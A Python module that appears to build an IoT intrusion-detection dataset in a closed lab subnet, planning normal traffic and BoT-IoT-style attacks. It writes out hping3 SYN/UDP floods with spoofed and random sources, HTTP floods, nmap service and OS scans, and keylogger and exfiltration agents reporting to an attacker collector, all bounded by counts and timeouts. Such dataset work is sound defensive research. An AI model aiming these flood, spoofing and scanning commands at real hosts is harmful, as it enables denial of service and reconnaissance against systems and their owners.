"""The lab's hosts, its normal traffic and one attack plan per BoT-IoT subcategory.

Every plan is drawn from a ``random.Random`` seeded per run, so a run is
reproducible from its seed (up to kernel/tool timing).  Every generator is
bounded twice: in packets/requests/bytes (hping3 ``-c``, nmap port lists and
``--max-retries``, agent ``--count``/``--files``) and in time (``timeout``).
hping3 is never given ``--flood`` (which ignores ``-c``); its rate is set with
``-i u<microseconds>``.
"""

from __future__ import annotations

import ipaddress
import random
import sys
from dataclasses import dataclass, field
from pathlib import Path

AGENTS = str(Path(__file__).with_name("agents.py"))
SUBNET = "10.77.0"
#: Unassigned part of the lab subnet used as spoofed sources (hping3 ``-a``).
SPOOF_NET = f"{SUBNET}.128/26"

#: (name, last octet, role).  Attackers never carry normal traffic.
HOSTS: list[tuple[str, str, str]] = [
    ("dns", "2", "dns-server"),
    ("broker", "10", "mqtt-broker"),
    ("sens1", "11", "mqtt-sensor"),
    ("sens2", "12", "mqtt-sensor"),
    ("sens3", "13", "mqtt-sensor"),
    ("cam", "20", "http-device"),
    ("coap", "21", "coap-device"),
    ("telnet", "22", "telnet-device"),
    ("client1", "100", "client"),
    ("client2", "101", "client"),
    ("atk1", "201", "attacker"),
    ("atk2", "202", "attacker"),
    ("atk3", "203", "attacker"),
    ("atk4", "204", "attacker"),
]
ATTACKERS = ["atk1", "atk2", "atk3", "atk4"]

#: scenario -> (category, subcategory), BoT-IoT spelling.
SCENARIOS: dict[str, tuple[str, str]] = {
    "normal": ("Normal", "Normal"),
    "dos_tcp": ("DoS", "TCP"),
    "dos_udp": ("DoS", "UDP"),
    "dos_http": ("DoS", "HTTP"),
    "ddos_tcp": ("DDoS", "TCP"),
    "ddos_udp": ("DDoS", "UDP"),
    "ddos_http": ("DDoS", "HTTP"),
    "service_scan": ("Reconnaissance", "Service_Scan"),
    "os_fingerprint": ("Reconnaissance", "OS_Fingerprint"),
    "keylogging": ("Theft", "Keylogging"),
    "data_exfiltration": ("Theft", "Data_Exfiltration"),
}
#: Extra scenarios (not a single subcategory).
EXTRA_SCENARIOS = {"mixed": ("Mixed", "Mixed")}

# services each device offers: (proto, port)
TCP_TARGETS = [("cam", 80), ("telnet", 23), ("broker", 1883)]
UDP_TARGETS = [("coap", 5683), ("dns", 53)]


def ip(name: str) -> str:
    return f"{SUBNET}.{dict((h, o) for h, o, _ in HOSTS)[name]}"


@dataclass
class Step:
    host: str  # namespace that runs it
    argv: list[str]
    service: bool = False  # started first and stopped when the attack ends
    delay: float = 0.0  # seconds after the attack start


@dataclass
class AttackPlan:
    category: str
    subcategory: str
    attackers: list[str]  # host names
    victims: list[str]
    steps: list[Step]
    seconds: float  # nominal length; every step is wrapped in timeout(seconds + grace)
    spoofed: list[str] = field(default_factory=list)  # CIDRs of forged sources
    params: dict = field(default_factory=dict)


def _py(role: str, **opts) -> list[str]:
    argv = [sys.executable, AGENTS, role]
    for k, v in opts.items():
        argv += [f"--{k.replace('_', '-')}", str(v)]
    return argv


def _timeout(seconds: float, argv: list[str]) -> list[str]:
    return ["timeout", "-s", "INT", "-k", "2", f"{seconds:.1f}"] + argv


# ----------------------------------------------------------------------------- normal traffic


def normal_steps(rng: random.Random, duration: float) -> tuple[list[Step], list[Step]]:
    """(servers, clients) of the background IoT traffic; clients stop after ``duration``."""
    servers = [
        Step("broker", ["mosquitto", "-c", "{broker_conf}"]),
        Step("cam", _py("http-server", port=80)),
        Step("coap", _py("udp-server", port=5683, kind="coap")),
        Step("dns", _py("udp-server", port=53, kind="dns")),
        Step("telnet", _py("tcp-service", port=23)),
        Step("telnet", _py("tcp-service", port=22)),
    ]
    pace = rng.uniform(0.6, 1.8)  # global busy-ness of this run
    d = round(duration, 1)

    def seed():
        return rng.randint(0, 2**31 - 1)

    def gaps(lo, hi):
        lo, hi = lo * pace * rng.uniform(0.7, 1.3), hi * pace * rng.uniform(0.7, 1.3)
        return {"min_gap": round(lo, 3), "max_gap": round(max(hi, lo + 0.01), 3)}

    b = ip("broker")
    topics = [("sens1", "home/weather/temp", 5, 35), ("sens2", "home/fridge/temp", 1, 6), ("sens3", "home/garage/door", 0, 1)]
    clients = []
    for host, topic, lo, hi in topics:
        clients.append(Step(host, _py("mqtt-sensor", host=b, port=1883, topic=topic, low=lo, high=hi, seed=seed(), duration=d, **gaps(0.8, 3.0))))
    clients.append(Step("client1", ["timeout", f"{d:.1f}", "mosquitto_sub", "-h", b, "-t", "home/#", "-k", str(rng.choice([5, 10, 15])), "-i", "dashboard"]))
    clients.append(Step("sens1", ["timeout", f"{d:.1f}", "mosquitto_sub", "-h", b, "-t", "home/thermostat/set", "-i", "thermostat"]))
    clients.append(Step("client1", _py("http-poll", host=ip("cam"), port=80, seed=seed(), duration=d, **gaps(0.5, 2.5))))
    clients.append(Step("client2", _py("http-poll", host=ip("cam"), port=80, seed=seed(), duration=d, **gaps(1.0, 4.0))))
    clients.append(Step("client2", _py("coap-client", host=ip("coap"), port=5683, seed=seed(), duration=d, **gaps(0.3, 1.5))))
    clients.append(Step("sens2", _py("coap-client", host=ip("coap"), port=5683, seed=seed(), duration=d, **gaps(1.0, 3.0))))
    for host in ("client1", "client2", "cam", "coap"):
        clients.append(Step(host, _py("dns-client", host=ip("dns"), port=53, seed=seed(), duration=d, **gaps(1.5, 6.0))))
    clients.append(Step("client2", _py("tcp-session", host=ip("telnet"), port=23, seed=seed(), duration=d, **gaps(0.8, 4.0))))
    clients.append(Step("client1", _py("tcp-session", host=ip("telnet"), port=22, seed=seed(), duration=d, **gaps(2.0, 6.0))))
    for s in clients:
        if s.argv[0] != "timeout":
            s.argv = _timeout(duration + 2, s.argv)
    return servers, clients


# ----------------------------------------------------------------------------- attacks


def _hping_tcp_flags(rng: random.Random) -> list[str]:
    return rng.choice([["-S"], ["-S"], ["-S"], ["-A"], ["-S", "-A"], ["-F", "-P", "-U"], ["-R"]])


def _flood(rng, kind: str, bots: list[str], seconds: float, total_rate: float, spoof: str) -> tuple[list[Step], list[str], list[str], dict]:
    if kind == "tcp":
        victim, port = rng.choice(TCP_TARGETS)
        if rng.random() < 0.3:
            port = rng.randint(1, 65535)
        proto_opts = _hping_tcp_flags(rng)
    else:
        victim, port = rng.choice(UDP_TARGETS)
        if rng.random() < 0.3:
            port = rng.randint(1, 65535)
            victim = rng.choice(["coap", "dns", "cam", "broker", "telnet"])
        proto_opts = ["--udp"]
    size = rng.choice([0, 0, rng.randint(1, 64), rng.randint(64, 512)])
    per_bot = total_rate / len(bots)
    interval_us = max(50, int(1e6 / per_bot))
    count = min(30000 // len(bots), int(seconds * 1e6 / interval_us) + 1)
    spoof_nets = []
    steps = []
    for bot in bots:
        argv = ["hping3", *proto_opts, "-p", str(port), "-i", f"u{interval_us}", "-c", str(count), "-q"]
        if size:
            argv += ["-d", str(size)]
        if spoof == "subnet":
            argv += ["-a", f"{SUBNET}.{rng.randint(128, 191)}"]
        elif spoof == "random":
            argv += ["--rand-source"]
        if rng.random() < 0.5 and kind == "tcp":
            argv += ["-s", str(rng.randint(1024, 60000))]  # base source port (hping3 increments it)
        argv.append(ip(victim))
        steps.append(Step(bot, _timeout(seconds + 2, argv)))
    if spoof == "subnet":
        spoof_nets = [SPOOF_NET]
    elif spoof == "random":
        spoof_nets = ["0.0.0.0/0"]
    params = {"port": port, "payload": size, "interval_us": interval_us, "count_per_bot": count,
              "bots": len(bots), "spoof": spoof, "flags": " ".join(proto_opts)}
    return steps, [victim], spoof_nets, params


def plan_attack(scenario: str, rng: random.Random, seconds: float, scale: float = 1.0) -> AttackPlan:
    """The attack of ``scenario``; ``scale`` multiplies flood rates and request counts (samples use < 1)."""
    cat, sub = SCENARIOS[scenario]
    if scenario in ("dos_tcp", "dos_udp", "ddos_tcp", "ddos_udp"):
        ddos = scenario.startswith("ddos")
        bots = rng.sample(ATTACKERS, rng.randint(2, 4)) if ddos else [rng.choice(ATTACKERS)]
        spoof = rng.choice(["none", "subnet", "random"]) if ddos else rng.choice(["none", "none", "none", "subnet"])
        rate = rng.uniform(800, 3000) * scale
        steps, victims, spoofed, params = _flood(rng, scenario.split("_")[1], bots, seconds, rate, spoof)
        return AttackPlan(cat, sub, bots, victims, steps, seconds, spoofed, params)
    if scenario in ("dos_http", "ddos_http"):
        bots = rng.sample(ATTACKERS, rng.randint(2, 4)) if scenario == "ddos_http" else [rng.choice(ATTACKERS)]
        threads = rng.randint(2, 12)
        keepalive = rng.choice([0, 1])
        gap = rng.choice([0.0, 0.0, round(rng.uniform(0.001, 0.02), 4)])
        count = max(50, int(min(20000 // len(bots), rng.randint(2000, 12000)) * scale))
        steps = [Step(b, _timeout(seconds + 2, _py("http-flood", host=ip("cam"), port=80, threads=threads, keepalive=keepalive,
                                                   gap=gap, count=count, seed=rng.randint(0, 2**31), duration=round(seconds, 1))))
                 for b in bots]
        return AttackPlan(cat, sub, bots, ["cam"], steps, seconds, [], {"threads": threads, "keepalive": keepalive, "gap": gap, "count_per_bot": count, "bots": len(bots)})
    if scenario == "service_scan":
        # 2-4 nmap scans (mixed scan types and timing templates) spread over the window
        attacker = rng.choice(ATTACKERS)
        pool = ["cam", "coap", "telnet", "broker", "dns", "cam", "telnet", "sens1"]
        n = rng.randint(2, 4)
        steps, victims, kinds = [], [], []
        for i in range(n):
            targets = rng.sample(pool, rng.randint(1, 2))
            kind = rng.choice(["-sS", "-sT", "-sV", "-sU", "-sS", "-sV"])
            timing = rng.choice(["-T3", "-T4", "-T4", "-T5"])
            if kind == "-sU":
                ports = ["-p", "53,67,68,69,123,161,162,500,1900,5353,5683," + ",".join(str(rng.randint(1000, 40000)) for _ in range(rng.randint(5, 30)))]
                extra = ["--max-retries", "1"]
            elif kind == "-sV":
                ports = rng.choice([["-p", "21-25,53,80,443,1883,5683,8080,8883"], ["--top-ports", str(rng.choice([20, 50, 100]))]])
                extra = ["--version-intensity", str(rng.choice([0, 2, 5])), "--max-retries", "1"]
            else:
                ports = rng.choice([["--top-ports", str(rng.choice([100, 500, 1000]))], ["-p", f"1-{rng.choice([1024, 2048, 5000])}"]])
                if scale < 1:  # small samples: fewer probes
                    ports = ["--top-ports", str(max(20, int(1000 * scale)))]
                extra = ["--max-retries", str(rng.choice([1, 2]))]
            delay = round(i * seconds / n + rng.uniform(0, 0.5), 2)
            left = max(2.0, seconds - delay)
            argv = ["nmap", kind, timing, "-n", *ports, *extra, "--host-timeout", f"{int(left)}s", *[ip(v) for v in targets]]
            steps.append(Step(attacker, _timeout(left + 1, argv), delay=delay))
            victims += [v for v in targets if v not in victims]
            kinds.append(f"{kind} {timing}")
        return AttackPlan(cat, sub, [attacker], victims, steps, seconds, [], {"scans": kinds})
    if scenario == "os_fingerprint":
        attacker = rng.choice(ATTACKERS)
        pool = ["cam", "coap", "telnet", "broker", "dns", "sens1", "client1"]
        n = rng.randint(2, 3)
        steps, victims, opts_used = [], [], []
        for i in range(n):
            targets = rng.sample(pool, rng.randint(1, 2))
            timing = rng.choice(["-T3", "-T4", "-T4", "-T5"])
            opts = rng.choice([[], ["--osscan-guess"], ["--osscan-limit"], ["-p", "22,23,80,1883,8080"], ["-F"]])
            if scale < 1 and "-p" not in opts:  # small samples: fewer probes
                opts = ["-p", "22,23,80,1883,8080"]
            delay = round(i * seconds / n + rng.uniform(0, 0.5), 2)
            left = max(2.0, seconds - delay)
            argv = ["nmap", "-O", timing, "-n", "--max-os-tries", "1", *opts, "--host-timeout", f"{int(left)}s", *[ip(v) for v in targets]]
            steps.append(Step(attacker, _timeout(left + 1, argv), delay=delay))
            victims += [v for v in targets if v not in victims]
            opts_used.append(" ".join([timing, *opts]))
        return AttackPlan(cat, sub, [attacker], victims, steps, seconds, [], {"scans": opts_used})
    if scenario == "keylogging":
        attacker = rng.choice(ATTACKERS)
        victim = rng.choice(["telnet", "cam", "client1", "client2", "sens1"])
        port = rng.choice([4444, 1337, 8443, 9001, 5555, rng.randint(10000, 60000)])
        steps = [
            Step(attacker, _timeout(seconds + 5, _py("collector", port=port)), service=True),
            Step(victim, _timeout(seconds + 2, _py("keylogger", host=ip(attacker), port=port, seed=rng.randint(0, 2**31),
                                                   duration=round(seconds, 1), count=2000, max_batch=rng.choice([1, 2, 4, 8]),
                                                   min_gap=round(rng.uniform(0.02, 0.12), 3), max_gap=round(rng.uniform(0.2, 0.7), 3)))),
        ]
        return AttackPlan(cat, sub, [attacker], [victim], steps, seconds, [], {"port": port})
    if scenario == "data_exfiltration":
        attacker = rng.choice(ATTACKERS)
        victim = rng.choice(["telnet", "cam", "client1", "client2", "coap"])
        mode = rng.choice(["http", "tcp"])
        port = rng.choice([80, 443, 8080, 21, 4444]) if mode == "tcp" else rng.choice([80, 8080, 8000])
        coll = _py("collector", port=port, http_port=0) if mode == "tcp" else _py("collector", port=rng.randint(30000, 40000), http_port=port)
        steps = [
            Step(attacker, _timeout(seconds + 5, coll), service=True),
            Step(victim, _timeout(seconds + 2, _py("exfil", host=ip(attacker), port=port, mode=mode, seed=rng.randint(0, 2**31),
                                                   duration=round(seconds, 1), files=rng.randint(2, 8), min_kb=rng.choice([20, 50, 100]),
                                                   max_kb=rng.choice([200, 400, 800]), max_total_kb=3072,
                                                   min_gap=round(rng.uniform(0.2, 1.0), 2), max_gap=round(rng.uniform(1.0, 3.0), 2)))),
        ]
        return AttackPlan(cat, sub, [attacker], [victim], steps, seconds, [], {"mode": mode, "port": port})
    raise ValueError(scenario)


def spoof_contains(cidrs: list[str], addr: str) -> bool:
    try:
        a = ipaddress.ip_address(addr)
    except ValueError:
        return False
    return any(a in ipaddress.ip_network(c) for c in cidrs)
